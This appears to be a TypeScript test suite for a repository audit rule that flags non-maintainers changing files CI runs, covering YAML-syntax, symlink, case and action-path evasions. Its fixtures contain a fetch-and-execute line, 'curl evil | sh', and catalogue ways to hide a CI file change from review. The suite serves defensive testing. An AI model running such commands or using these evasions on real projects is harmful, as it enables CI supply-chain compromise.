// Red-team round 12: the files a CI configuration runs were found by reading it line by line, so a
// reference written in another YAML form than `uses: ./x` / `include: local: x` on its own line was
// not seen and the file it names was not protected: a flow-style step `- { uses: ./tools/audit }`,
// a quoted key `"uses": ./tools/audit`, an alias of an anchored path, a folded block scalar, and a
// GitLab `include: { local: /ci/jobs.yml }` all run the file as GitHub's and GitLab's YAML parsers
// read them, yet a signer who is no maintainer changed it and protected-paths-changed-by-maintainers
// passed.
import { symlinkSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { cleanupTemp, type TestRepo } from '../helpers/repo.js';
import { commitAsPerson, type SshTestKey } from '../helpers/ssh.js';
import { runMain } from '../helpers/cli.js';
import { aliceAndBob, protectedPerCommit, type Team } from '../helpers/team.js';

afterAll(cleanupTemp);

const team = (files: Record<string, string>): Team => aliceAndBob(files);

/**
 * Bob's `change` (as the attack writes it), then Alice's edit of the same files (its "evil" made
 * "good"), one audit over both: the exit code, and the findings' messages naming each commit. One
 * audit where a test of each change alone made two; each verdict is still read per commit.
 */
async function bobThenAlice(
  { r, alice, bob }: Team,
  change: Record<string, string>,
): Promise<{ code: number; bob: string; alice: string }> {
  const fixed = Object.fromEntries(Object.entries(change).map(([k, v]) => [k, v.replaceAll('evil', 'good')]));
  const got = await protectedPerCommit(r, [
    [bob, 'bob@example.com', change],
    [alice, 'alice@example.com', fixed],
  ]);
  return { code: got.code, bob: got.perChange[0]!, alice: got.perChange[1]! };
}

const head = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n';
const ACTION = 'runs:\n  using: composite\n  steps:\n    - run: make\n      shell: bash\n';
const EVIL = 'runs:\n  using: composite\n  steps:\n    - run: curl evil | sh\n      shell: bash\n';

const github = (steps: string, workflow = head + steps): [Record<string, string>, Record<string, string>] => [
  { '.github/workflows/ci.yml': workflow, 'tools/audit/action.yml': ACTION },
  { 'tools/audit/action.yml': EVIL },
];
const gitlab = (ci: string): [Record<string, string>, Record<string, string>] => [
  { '.gitlab-ci.yml': ci, 'ci/jobs.yml': 'a:\n  script: make\n' },
  { 'ci/jobs.yml': 'a:\n  script: curl evil | sh\n' },
];

describe.each([
  ['a flow-style step', github('      - { uses: ./tools/audit }\n')],
  ['a quoted key', github('      - "uses": ./tools/audit\n')],
  ['a key spelled with an escape', github('      - "u\\x73es": ./tools/audit\n')],
  [
    'an alias of an anchored path',
    github('      - env: { P: &p ./tools/audit }\n        run: echo\n      - uses: *p\n'),
  ],
  ['a folded block scalar', github('      - uses: >-\n          ./tools/audit\n')],
  [
    'a workflow all in flow style',
    github('', '{ on: push, jobs: { a: { runs-on: ubuntu-latest, steps: [{ uses: ./tools/audit }] } } }\n'),
  ],
  ['a GitLab flow-map include', gitlab("include: { local: '/ci/jobs.yml' }\n")],
  ['a GitLab quoted include key', gitlab('"include":\n  - local: /ci/jobs.yml\n')],
  ['a GitLab include list in flow style', gitlab("include: [{ local: '/ci/jobs.yml' }]\n")],
])('%s', (_name, [before, change]) => {
  let got: Awaited<ReturnType<typeof bobThenAlice>>;
  beforeAll(async () => {
    got = await bobThenAlice(team(before), change);
  }, 60_000);
  test('the file it runs, changed by a signer who is no maintainer: protected-paths-changed-by-maintainers fails', () => {
    expect([got.code, got.bob]).toEqual([1, expect.stringContaining(Object.keys(change)[0]!.split('/')[0]!)]);
  });
  test("twin: the maintainer's change passes", () => {
    expect(got.alice).toBe('');
  });
});

// A local action reached through a symbolic link: the runner checks the link out and reads the
// action through it (the folder `tools/audit -> ../vendor/audit`, or its `action.yml -> ...`), but
// the watch held the link alone, so a change to the file it points at passed.
describe.each([
  ['the action folder is a link', 'tools/audit', '../vendor/audit'],
  ['the action.yml is a link', 'tools/audit/action.yml', '../../vendor/audit/action.yml'],
  ['a folder above the action is a link', 'tools', 'vendor'],
])('%s', (_name, link, target) => {
  const setup = (): { r: TestRepo; alice: SshTestKey; bob: SshTestKey } => {
    const t = team({ '.github/workflows/ci.yml': head + '      - uses: ./tools/audit\n' });
    t.r.write({ 'vendor/audit/action.yml': ACTION });
    mkdirSync(join(t.r.dir, link, '..'), { recursive: true });
    symlinkSync(target, join(t.r.dir, link));
    commitAsPerson(t.r, t.alice, 'alice@example.com', 'the action, vendored', {});
    return t;
  };
  let got: Awaited<ReturnType<typeof bobThenAlice>>;
  beforeAll(async () => {
    got = await bobThenAlice(setup(), { 'vendor/audit/action.yml': EVIL });
  }, 60_000);
  test('the file it points at, changed by a signer who is no maintainer: fails', () => {
    expect([got.code, got.bob]).toEqual([1, expect.stringContaining('vendor')]);
  });
  test("twin: the maintainer's change passes", () => {
    expect(got.alice).toBe('');
  });
});

test.each([
  ['a link loop', { 'tools/audit': 'audit2', 'tools/audit2': 'audit' }],
  ['an action.yml leading to its own folder', { 'tools/audit/action.yml': '.' }],
  ['a link out of the tree', { 'tools/audit': '../../etc' }],
])('%s: the audit ends and judges', async (_name, links: Record<string, string>) => {
  const { r, bob } = team({ '.github/workflows/ci.yml': head + '      - uses: ./tools/audit\n' });
  for (const [link, target] of Object.entries(links)) {
    mkdirSync(join(r.dir, link, '..'), { recursive: true });
    symlinkSync(target, join(r.dir, link));
  }
  commitAsPerson(r, bob, 'bob@example.com', 'links', {});
  const res = await runMain(['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers', '--no-ledger'], {
    env: r.env,
  });
  // bob added what the workflow runs: a protected change by a signer who is no maintainer.
  expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('tools')]);
});

// A Windows or macOS runner reads its checkout case-insensitively: `uses: ./Tools/Audit` runs
// `tools/audit`, which the watch (the name as written) did not hold.
describe('a reference spelled in another case, on a case-insensitive runner', () => {
  const setup = (): { r: TestRepo; alice: SshTestKey; bob: SshTestKey } =>
    team({
      '.github/workflows/ci.yml':
        'on: push\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - uses: ./Tools/Audit\n',
      'tools/audit/action.yml': ACTION,
    });
  let got: Awaited<ReturnType<typeof bobThenAlice>>;
  beforeAll(async () => {
    got = await bobThenAlice(setup(), { 'tools/audit/action.yml': EVIL });
  }, 60_000);
  test('the folder it runs, changed by a signer who is no maintainer: fails', () => {
    expect([got.code, got.bob]).toEqual([1, expect.stringContaining('tools')]);
  });
  test("twin: the maintainer's change passes", () => {
    expect(got.alice).toBe('');
  });
});

// An action's own files, named relative to its folder: a JavaScript action's `main`/`pre`/`post`
// and a Docker action's `image: <Dockerfile>` may lead out of the folder (`../../dist/audit.js`).
describe.each([
  ['a JavaScript action (main:)', 'runs:\n  using: node20\n  main: ../../dist/audit.js\n', 'dist/audit.js'],
  [
    'a JavaScript action (post:)',
    "runs:\n  using: node20\n  main: index.js\n  post: '../../dist/audit.js'\n",
    'dist/audit.js',
  ],
  ['a Docker action (image:)', 'runs:\n  using: docker\n  image: ../../docker/Dockerfile\n', 'docker/Dockerfile'],
])('%s running a file outside its folder', (_name, action, file) => {
  const setup = (): { r: TestRepo; alice: SshTestKey; bob: SshTestKey } =>
    team({
      '.github/workflows/ci.yml': head + '      - uses: ./tools/audit\n',
      'tools/audit/action.yml': action,
      [file]: 'good\n',
    });
  let got: Awaited<ReturnType<typeof bobThenAlice>>;
  beforeAll(async () => {
    got = await bobThenAlice(setup(), { [file]: 'evil\n' });
  }, 60_000);
  test('that file, changed by a signer who is no maintainer: fails', () => {
    expect([got.code, got.bob]).toEqual([1, expect.stringContaining(file.split('/')[0]!)]);
  });
  test("twin: the maintainer's change passes", () => {
    expect(got.alice).toBe('');
  });
});

test('the root action (uses: ./) running a file by main: a non-maintainer changing that file fails', async () => {
  const { r, bob } = team({
    '.github/workflows/ci.yml': head + '      - uses: ./\n',
    'action.yml': 'runs:\n  using: node20\n  main: dist/audit.js\n',
    'dist/audit.js': 'good\n',
  });
  commitAsPerson(r, bob, 'bob@example.com', 'tweak', { 'dist/audit.js': 'evil\n' });
  const res = await runMain(['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers', '--no-ledger'], {
    env: r.env,
  });
  expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('dist')]);
});

// The reference removed (by the maintainer), the action changed by bob while nothing runs it, the
// reference put back by the maintainer: her signed change vouches for what CI runs again (as when CI
// starts running a file), and bob's next change is judged, with and without the ledger.
test.each([[['--no-ledger']], [[] as string[]]])(
  'reference removed, action changed, put back by a maintainer: vouched; a change after it fails (%p)',
  async (extra) => {
    const wf = head + '      - uses: ./tools/audit\n';
    const { r, alice, bob } = team({ '.github/workflows/ci.yml': wf, 'tools/audit/action.yml': ACTION });
    const audit = () =>
      runMain(['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers', '--allow-empty', ...extra], {
        env: r.env,
      });
    await audit();
    commitAsPerson(r, alice, 'alice@example.com', 'drop', { '.github/workflows/ci.yml': head + '      - run: make\n' });
    commitAsPerson(r, bob, 'bob@example.com', 'tweak', { 'tools/audit/action.yml': EVIL });
    expect((await audit()).code).toBe(0);
    // Put back by a maintainer's signed change: that change vouches for what CI runs from then on, as
    // for a file CI starts running (bob's edit changed nothing CI ran); an edit after it is judged.
    commitAsPerson(r, alice, 'alice@example.com', 'back', { '.github/workflows/ci.yml': wf });
    expect((await audit()).code).toBe(0);
    commitAsPerson(r, bob, 'bob@example.com', 'tweak again', { 'tools/audit/action.yml': `${EVIL}# again\n` });
    const res = await audit();
    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('tools')]);
  },
);
